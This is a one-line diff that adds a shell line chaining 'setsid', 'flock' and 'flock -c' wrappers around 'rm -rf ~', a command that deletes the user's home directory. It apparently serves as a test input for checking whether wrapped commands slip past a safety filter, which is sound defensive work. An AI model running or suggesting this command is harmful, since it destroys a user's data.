@@ -1,0 +1,1 @@
+setsid flock /tmp/lock rm -rf ~; flock -c 'rm -rf ~' /tmp/lock
